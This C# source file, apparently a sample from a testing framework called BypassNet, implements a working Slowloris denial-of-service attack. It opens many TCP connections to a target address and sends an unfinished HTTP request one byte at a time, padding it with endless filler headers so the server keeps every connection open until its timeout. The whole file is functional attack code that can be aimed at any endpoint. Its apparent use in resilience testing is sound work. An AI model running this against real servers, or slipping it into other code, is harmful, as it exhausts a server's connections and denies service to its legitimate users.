using System.Net;
using System.Net.Sockets;
using System.Text;

namespace BypassNet.Samples.Attack;

/// <summary>
/// Slowloris on HTTP: N connections send a request's head one byte per interval, header after header, and never
/// finish it, so the server holds each connection open until its header timeout.
/// </summary>
internal sealed class Slowloris(IPEndPoint target, int connections, TimeSpan byteInterval, string httpPath) : IAttack
{
    private readonly AttackConnections _connections = new();
    private readonly CancellationTokenSource _stop = new();
    private Task _trickle = Task.CompletedTask;
    private long _sent;
    private int _reset;

    public async Task StartAsync(CancellationToken cancel)
    {
        await _connections.OpenAsync(target, connections, 0, TimeSpan.FromSeconds(2), cancel).ConfigureAwait(false);
        _trickle = TrickleAsync(_stop.Token);
    }

    public string Describe() =>
        $"{_connections.Sockets.Count} slowloris connections ({_connections.Failed} failed to connect), one byte per {byteInterval.TotalMilliseconds:0} ms each, {Interlocked.Read(ref _sent)} B sent, {Volatile.Read(ref _reset)} closed by the server";

    public async ValueTask DisposeAsync()
    {
        await _stop.CancelAsync().ConfigureAwait(false);
        await _trickle.ConfigureAwait(false);
        await _connections.DisposeAsync().ConfigureAwait(false);
        _stop.Dispose();
    }

    private async Task TrickleAsync(CancellationToken stop)
    {
        byte[] head = Encoding.ASCII.GetBytes($"GET {httpPath} HTTP/1.1\r\nHost: 127.0.0.1\r\n");
        byte[] filler = "X-Slow: a\r\n"u8.ToArray();
        var closed = new bool[_connections.Sockets.Count];
        for (long position = 0; !stop.IsCancellationRequested; position++)
        {
            byte next = position < head.Length ? head[position] : filler[(position - head.Length) % filler.Length];
            for (int i = 0; i < closed.Length; i++)
            {
                if (closed[i])
                {
                    continue;
                }

                try
                {
                    _connections.Sockets[i].Send([next], SocketFlags.None);
                    Interlocked.Increment(ref _sent);
                }
                catch (SocketException)
                {
                    closed[i] = true;
                    Interlocked.Increment(ref _reset);
                }
            }

            try
            {
                await Task.Delay(byteInterval, stop).ConfigureAwait(false);
            }
            catch (OperationCanceledException)
            {
                return;
            }
        }
    }
}
